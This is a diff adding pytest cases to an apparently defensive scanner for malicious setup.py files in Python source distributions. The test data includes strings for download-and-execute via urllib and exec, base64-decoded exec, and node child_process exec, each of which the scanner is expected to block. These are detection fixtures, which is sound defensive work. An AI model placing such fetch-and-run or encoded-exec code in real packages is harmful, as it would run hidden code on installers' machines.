@@ -148,6 +148,32 @@ def test_setup_py_spawning_powershell_blocks(tmp_path: Path) -> None:
     assert "subprocess.Popen" in first.evidence[0][1]
 
 
+@pytest.mark.parametrize(
+    "call",
+    [
+        # a build tool's name (python) running code that fetches and runs more code
+        'os.system("python -c \\"import urllib.request;'
+        "exec(urllib.request.urlopen('http://127.0.0.1:9/x').read())\\\"\")",
+        "subprocess.call([sys.executable, '-c', 'import base64;exec(base64.b64decode(B))'])",
+        "subprocess.Popen('node -e \"require(\\'child_process\\').exec(x)\"', shell=True)",
+    ],
+)
+def test_setup_py_running_inline_code_that_runs_more_blocks(tmp_path: Path, call: str) -> None:
+    body = f"import os, subprocess, sys\n{call}\n"
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "block", result.findings
+    assert "runs inline code" in result.findings[0].message
+
+
+def test_setup_py_asking_python_a_question_is_clean(tmp_path: Path) -> None:
+    body = (
+        "import subprocess, sys\n"
+        "inc = subprocess.check_output([sys.executable, '-c', "
+        "'import sysconfig; print(sysconfig.get_paths()[\"include\"])'])\n"
+    )
+    assert scan(sdist(tmp_path, {"setup.py": setup_py(body)})).findings == ()
+
+
 def test_cmdclass_install_that_sends_host_data_blocks(tmp_path: Path) -> None:
     body = """
 import getpass, json, os, socket, urllib.request
